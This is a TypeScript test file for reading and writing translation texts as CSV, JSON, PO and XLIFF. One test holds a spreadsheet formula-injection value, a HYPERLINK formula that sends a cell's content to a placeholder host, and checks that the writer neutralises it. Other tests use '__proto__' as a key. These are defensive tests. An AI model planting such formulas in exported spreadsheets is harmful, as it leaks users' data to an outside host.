import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { readTexts, writeTexts, type TextUnit } from './text-file';

const folder = mkdtempSync(join(tmpdir(), 'plinth-texts-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** What XML and spreadsheets can hold: no control characters but line feeds. */
const text = (options: { minLength?: number } = {}) =>
  fc
    .string({ unit: 'grapheme', ...options })
    .map((value) => value.replace(/[\p{Cc}\p{Cs}\ufeff\ufffe\uffff]/gu, '\n'));
const name = fc.stringMatching(/^[A-Za-z][\w.-]{0,20}$/);
const units: fc.Arbitrary<TextUnit[]> = fc.uniqueArray(
  fc.record({ resource: name, key: name, source: text({ minLength: 1 }), target: text() }),
  { selector: ({ resource, key }) => `${resource} ${key}`, maxLength: 10 },
);
const withoutSource = (all: TextUnit[]) => all.map(({ source: _source, ...rest }) => rest);
const inOrder = <Unit extends { resource: string; key: string }>(all: Unit[]) =>
  all.toSorted((left, right) => (`${left.resource} ${left.key}` < `${right.resource} ${right.key}` ? -1 : 1));

describe.each(['csv', 'json', 'po', 'xlf'])('a file of texts as %s', (extension) => {
  it('gives back every text as it was written', () => {
    const path = join(folder, `texts.${extension}`);
    fc.assert(
      fc.property(units, (written) => {
        fc.pre(extension !== 'po' || written.every(({ source }) => source !== '__proto__'));
        writeTexts(path, { units: written, sourceCulture: 'en', targetCulture: 'fr' });
        const read = readTexts(path);
        expect(inOrder(withoutSource(read))).toEqual(inOrder(withoutSource(written)));
        if (extension !== 'json') expect(inOrder(read)).toEqual(inOrder(written));
      }),
      { numRuns: 100 },
    );
  });
});

it('writes no text of a colleague as a formula of a spreadsheet', () => {
  const path = join(folder, 'formulas.csv');
  const formula = '=HYPERLINK("https://example.org?"&A1)';
  const written = [{ resource: 'A', key: 'a', source: formula, target: `-1+${formula}` }];
  writeTexts(path, { units: written, sourceCulture: 'en', targetCulture: 'fr' });
  expect(readFileSync(path, 'utf8')).toMatch(/"'=HYPERLINK\(.*"'-1\+=HYPERLINK\(/);
  expect(readTexts(path)).toEqual(written);
});

it('refuses a text that a PO file would not give back', () => {
  const unit = { resource: 'A', key: 'a', source: '__proto__', target: '' };
  const file = { units: [unit], sourceCulture: 'en', targetCulture: 'fr' };
  expect(() => writeTexts(join(folder, 'lost.po'), file)).toThrow(/"__proto__" of a cannot be in a PO file/);
});

it('names the file that is not what its ending says', () => {
  const path = join(folder, 'broken.xlf');
  writeFileSync(path, '<xliff><file>');
  expect(() => readTexts(path)).toThrow(/broken\.xlf cannot be read/);
  expect(() => readTexts(join(folder, 'texts.doc'))).toThrow(/is none of \.csv/);
});

it('keeps texts whose names an object of JavaScript has by itself', () => {
  const path = join(folder, 'names.json');
  const written = ['__proto__', 'constructor'].flatMap((resource) =>
    ['__proto__', 'toString'].map((key) => ({ resource, key, source: '', target: `${resource} ${key}` })),
  );
  writeTexts(path, { units: written, sourceCulture: 'en', targetCulture: 'fr' });
  expect(inOrder(readTexts(path))).toEqual(inOrder(written));
  expect(Object.prototype.toString.call([])).toBe('[object Array]');
});
